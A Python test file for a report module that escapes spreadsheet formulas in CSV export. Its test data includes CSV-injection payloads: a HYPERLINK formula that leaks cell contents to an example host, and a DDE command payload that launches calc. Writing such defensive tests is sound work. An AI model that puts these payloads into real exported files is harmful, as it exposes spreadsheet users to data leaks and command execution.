"""CSV files hold no formula that a spreadsheet would run."""

import csv
import io

import pyarrow as pa
import pyarrow.parquet
import pytest

from memtail_core.report import table_files
from memtail_core.report.spreadsheet import harmless

HARMFUL = [
    '=HYPERLINK("http://example.org/?"&A1,"see")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "-",
]
HARMLESS = ["cat", "-1", "+1", "-1.5e-3", "1=1", "a@b", "", "'=1", "-.5"]


def read(table: pa.Table) -> list[list[str]]:
    return list(csv.reader(io.StringIO(table_files.to_csv(table).decode(), newline="")))


@pytest.mark.parametrize("text", HARMFUL)
def test_a_formula_in_a_cell_or_a_header_begins_with_an_apostrophe(text: str) -> None:
    """Class names reach CSV, and a spreadsheet runs them.

    https://github.com/roboflow/inference/pull/2578, https://owasp.org/www-community/attacks/CSV_Injection.
    """
    table = pa.table({"class": [text, "cat", None], text: [1, -2, 3]})
    header, first, *others = read(table)
    assert header == ["class", f"'{text}"]
    assert first == [f"'{text}", "1"]
    assert others == [["cat", "-2"], ["", "3"]]
    assert harmless(table)[1] == 2


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_and_all_numbers_stay_as_they_are(text: str) -> None:
    table = pa.table({"class": [text, "x"], "value": [-1.5, -2.0]})
    assert harmless(table) == (table, 0)
    assert read(table)[1] == [text, "-1.5"]


def test_parquet_and_json_are_exact() -> None:
    table = pa.table({"class": HARMFUL})
    stored = pyarrow.parquet.read_table(pa.BufferReader(table_files.to_parquet(table)))
    assert stored["class"].to_pylist() == HARMFUL
    assert HARMFUL[0].replace('"', '\\"') in table_files.to_json(table).decode()


def test_columns_that_are_no_texts_are_left_alone() -> None:
    table = pa.table({"of": pa.array([["=1"], []]), "kept": pa.array([None, None], pa.string())})
    assert harmless(table) == (table, 0)
